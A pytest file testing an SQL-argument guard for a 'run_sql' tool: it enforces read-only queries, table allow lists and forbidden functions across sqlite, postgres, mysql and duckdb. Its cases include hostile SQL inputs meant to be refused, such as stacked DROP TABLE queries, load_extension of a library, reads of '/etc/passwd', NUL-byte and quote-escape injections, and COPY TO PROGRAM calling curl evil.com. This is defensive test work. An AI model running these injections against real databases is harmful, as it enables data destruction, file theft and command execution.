"""The ``sql`` family: one parsed statement, read-only trees, forbidden functions, table allow lists."""

from __future__ import annotations

import logging
from typing import Any

import pytest

from warded.policy.constraints import ArgChecker, ArgSpec, compile_arg


def checker(spec: dict[str, Any], tool: str = "run_sql", arg: str = "query") -> ArgChecker:
    return compile_arg(tool, arg, ArgSpec.model_validate(spec))


RO = {"sql": {"dialect": "sqlite", "read_only": True, "tables": ["orders", "customers"]}}
PG = {"sql": {"dialect": "postgres", "tables": ["orders", "sales.orders"]}}
RW = {"sql": {"read_only": False, "tables": ["orders"]}}
OPEN: dict[str, Any] = {"sql": {}}

CASES = [
    (RO, "simple select", "SELECT id, total FROM orders WHERE total > 10", True),
    (RO, "trailing semicolon", "SELECT * FROM orders;", True),
    (RO, "trailing comment", "SELECT * FROM orders; -- done", True),
    (RO, "join", "SELECT * FROM orders o JOIN customers c ON o.cid = c.id", True),
    (RO, "subquery", "SELECT * FROM orders WHERE cid IN (SELECT id FROM customers)", True),
    (RO, "CTE name is not a table", "WITH big AS (SELECT * FROM orders) SELECT * FROM big", True),
    (RO, "CTE uses an earlier CTE", "WITH a AS (SELECT * FROM orders), b AS (SELECT * FROM a) SELECT * FROM b", True),
    (
        RO,
        "recursive CTE is refused even when bounded (its end cannot be proved in general)",
        "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5) SELECT x FROM n",
        False,
    ),
    (RO, "union of allowed tables", "SELECT id FROM orders UNION SELECT id FROM customers", True),
    (RO, "table names are case-insensitive", "SELECT * FROM ORDERS", True),
    (RO, "quoted identifier (sqlite folds case)", 'SELECT * FROM "Orders"', True),
    (RO, "no table at all", "SELECT 1", True),
    (RO, "ordinary functions", "SELECT upper(name), count(*) FROM customers GROUP BY 1", True),
    (RO, "stacked query", "SELECT * FROM orders; DROP TABLE orders", False),
    (RO, "stacked query after a comment", "SELECT 1; -- \nDROP TABLE orders", False),
    (RO, "stacked query after a block comment", "SELECT 1 /* x */; DELETE FROM orders", False),
    (RO, "sqlite does not nest comments", "SELECT 1 /* a /* b */ ; DROP TABLE orders; -- */", False),
    (RO, "MySQL executable comment", "SELECT 1 /*!50000 , load_file('/etc/passwd') */", False),
    (RO, "insert", "INSERT INTO orders VALUES (1)", False),
    (RO, "update", "UPDATE orders SET total = 0", False),
    (RO, "delete", "DELETE FROM orders", False),
    (RO, "drop", "DROP TABLE orders", False),
    (RO, "create", "CREATE TABLE orders2 AS SELECT * FROM orders", False),
    (RO, "attach", "ATTACH DATABASE '/tmp/x.db' AS x", False),
    (RO, "pragma", "PRAGMA writable_schema = 1", False),
    (RO, "vacuum into", "VACUUM INTO '/tmp/copy.db'", False),
    (RO, "explain (opaque command)", "EXPLAIN SELECT * FROM orders", False),
    (RO, "load_extension", "SELECT load_extension('/tmp/evil.so')", False),
    (RO, "load_extension quoted", "SELECT \"load_extension\"('/tmp/evil.so')", False),
    (RO, "LOAD_EXTENSION upper case", "SELECT LOAD_EXTENSION('/tmp/evil.so')", False),
    (RO, "readfile in a subquery", "SELECT * FROM orders WHERE id = (SELECT readfile('/etc/passwd'))", False),
    (RO, "writefile", "SELECT writefile('/tmp/x', 'y')", False),
    (RO, "randomblob allocates what it is asked", "SELECT randomblob(1000000000)", False),
    (RO, "zeroblob allocates what it is asked", "SELECT zeroblob(1000000000)", False),
    (RO, "functions are allow-listed", "SELECT my_udf(id) FROM orders", False),
    (RO, "IN a listed table", "SELECT * FROM orders WHERE cid IN customers", True),
    (RO, "IN an unlisted table", "SELECT * FROM orders WHERE cid IN users", False),
    (RO, "IN a value list is not a table", "SELECT * FROM orders WHERE cid IN (1, 2)", True),
    (RO, "IN a CTE", "WITH c AS (SELECT id FROM customers) SELECT * FROM orders WHERE cid IN c", True),
    (RO, "table and CTE names must be ASCII", "WITH \u212aeys AS (SELECT 1) SELECT * FROM orders", False),
    (RO, "fsdir table-valued function", "SELECT * FROM fsdir('/')", False),
    (RO, "union with a forbidden table", "SELECT id FROM orders UNION SELECT password FROM users", False),
    (RO, "forbidden table in a subquery", "SELECT * FROM orders WHERE id IN (SELECT id FROM users)", False),
    (RO, "forbidden table in a join", "SELECT * FROM orders JOIN users ON 1", False),
    (RO, "forbidden table in a CTE", "WITH x AS (SELECT * FROM users) SELECT * FROM x", False),
    (RO, "schema table", "SELECT sql FROM sqlite_master", False),
    (RO, "schema-qualified name needs its own entry", "SELECT * FROM main.orders", False),
    (RO, "attached database, same table name", "SELECT * FROM other.orders", False),
    (
        RO,
        "CTE defined only inside a subquery does not shadow the outer table",
        "SELECT * FROM users, (WITH users AS (SELECT 1) SELECT * FROM users)",
        False,
    ),
    (
        RO,
        "a later CTE is not visible to an earlier one",
        "WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
        False,
    ),
    (RO, "self-reference without RECURSIVE is a real table", "WITH users AS (SELECT * FROM users) SELECT 1", False),
    (RO, "parse error", "SELECT * FROM", False),
    (RO, "not SQL", "hello there", False),
    (RO, "empty", "", False),
    (RO, "only a comment", "-- nothing", False),
    (RO, "lone surrogate", "SELECT '\ud800' FROM orders", False),
    (RO, "NUL hides a second statement from C APIs", "SELECT 1\x00; DROP TABLE orders", False),
    (RO, "NUL alone", "SELECT * FROM orders\x00", False),
    (RO, "tabs and newlines are fine", "SELECT *\r\n\tFROM orders", True),
    (RO, "backslash is literal in sqlite", "SELECT * FROM orders WHERE name = 'a\\'", True),
    (RO, "backslash quote trick in sqlite", "SELECT 'a\\' ; DROP TABLE orders; --'", False),
    (PG, "backslash refused outside sqlite", "SELECT * FROM orders WHERE name = 'a\\'", False),
    (PG, "qualified entry", "SELECT * FROM sales.orders", True),
    (PG, "bare entry", "SELECT * FROM orders", True),
    (PG, "unquoted upper case folds", "SELECT * FROM ORDERS", True),
    (PG, "quoted mixed case is another table in postgres", 'SELECT * FROM "Orders"', False),
    (PG, "other schema, same table name", "SELECT * FROM tenant_b.orders", False),
    (PG, "data-modifying CTE", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", False),
    (PG, "select into", "SELECT * INTO copy FROM orders", False),
    (PG, "row locks", "SELECT * FROM orders FOR UPDATE", False),
    (PG, "pg_read_file", "SELECT pg_read_file('/etc/passwd')", False),
    (PG, "schema-qualified pg_read_file", "SELECT pg_catalog.pg_read_file('/etc/passwd')", False),
    (PG, "query_to_xml runs SQL from a string", "SELECT query_to_xml('select * from users', true, true, '')", False),
    (PG, "dblink", "SELECT * FROM orders WHERE id = (SELECT dblink('host=x', 'select 1'))", False),
    (PG, "pg_sleep", "SELECT pg_sleep(3600)", False),
    (PG, "nextval writes", "SELECT nextval('orders_id_seq')", False),
    (PG, "copy to program", "COPY orders TO PROGRAM 'curl evil.com'", False),
    (PG, "set", "SET search_path = evil", False),
    (RW, "insert allowed when not read-only", "INSERT INTO orders (id) VALUES (1)", True),
    (RW, "update allowed", "UPDATE orders SET total = 1 WHERE id = 2", True),
    (RW, "delete allowed", "DELETE FROM orders WHERE id = 2", True),
    (RW, "insert into another table", "INSERT INTO users (id) VALUES (1)", False),
    (RW, "insert from another table", "INSERT INTO orders SELECT * FROM users", False),
    (RW, "attach is never allowed", "ATTACH DATABASE '/tmp/x' AS x", False),
    (RW, "pragma is never allowed", "PRAGMA foreign_keys = 0", False),
    (RW, "dangerous functions are never allowed", "INSERT INTO orders VALUES (load_extension('x'))", False),
    (RW, "stacked still refused", "DELETE FROM orders; DELETE FROM orders", False),
    (OPEN, "no table list: any table", "SELECT * FROM anything", True),
    (OPEN, "no table list: still read-only", "DELETE FROM anything", False),
    (OPEN, "no table list: functions still refused", "SELECT readfile('/etc/passwd')", False),
]


@pytest.mark.parametrize(("spec", "case", "value", "ok"), CASES, ids=[c[1] for c in CASES])
def test_sql_cases(spec: dict[str, Any], case: str, value: str, ok: bool) -> None:
    violations = checker(spec).check(value)
    if ok:
        assert violations == [], case
    else:
        assert [v.rule_id for v in violations] == ["arg.run_sql.query.sql"], case


def test_mysql_backslash_escapes_are_refused() -> None:
    check = checker({"sql": {"dialect": "mysql"}}).check
    assert check("SELECT 'a'") == []
    # sqlglot reads one string; a server with NO_BACKSLASH_ESCAPES reads two statements.
    assert check("SELECT 'a\\' ; DROP TABLE x; --'") != []


def test_duckdb_file_readers() -> None:
    check = checker({"sql": {"dialect": "duckdb"}}).check
    assert check("SELECT 1") == []
    assert check("SELECT * FROM read_csv('/etc/passwd')") != []
    assert check("SELECT * FROM read_csv_auto('/etc/passwd')") != []
    assert check("SELECT * FROM '/etc/passwd'") != []  # DuckDB reads a quoted path in FROM as a file
    assert check('SELECT * FROM "data.csv"') != []
    assert check("SELECT * FROM 's3://bucket/x.parquet'") != []


def test_table_valued_function_can_be_listed() -> None:
    check = checker({"sql": {"tables": ["generate_series"]}}).check
    assert check("SELECT * FROM generate_series(1, 3)") == []
    assert checker(RO).check("SELECT * FROM generate_series(1, 3)") != []


def test_lists_are_not_sql() -> None:
    assert checker(RO).check(["SELECT 1"]) != []
    assert checker(RO).check(5) != []


def test_message_names_the_table_and_hides_secrets() -> None:
    [violation] = checker(RO).check("SELECT * FROM users")
    assert "'users'" in violation.message and "'query'" in violation.message
    [violation] = checker(RO | {"secret": True}).check("SELECT * FROM users WHERE pw = 'hunter2'")
    assert "hunter2" not in violation.message


def test_length_cap() -> None:
    long = "SELECT 1 " + " " * 70000
    [violation] = checker(OPEN).check(long)
    assert "longer than" in violation.message


@pytest.mark.parametrize(
    ("sql", "needle"),
    [
        ({"dialect": "nosuchsql"}, "not a dialect"),
        ({"tables": []}, "empty list"),
        ({"tables": ["a b"]}, "plain"),
        ({"tables": ['"x"']}, "plain"),
        ({"tables": ["a..b"]}, "plain"),
        ({"tables": ["orders;"]}, "plain"),
    ],
)
def test_unusable_specs(sql: dict[str, Any], needle: str) -> None:
    with pytest.raises(ValueError, match=needle):
        checker({"sql": sql})


def test_sql_needs_a_string_type() -> None:
    with pytest.raises(ValueError, match="cannot apply"):
        checker({"type": "array", "sql": {}})


def test_sqlglot_does_not_log_the_statement(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG, logger="sqlglot"):
        violations = checker(RO | {"secret": True}).check("EXPLAIN SELECT 'hunter2'")
    assert violations != []
    assert "hunter2" not in caplog.text
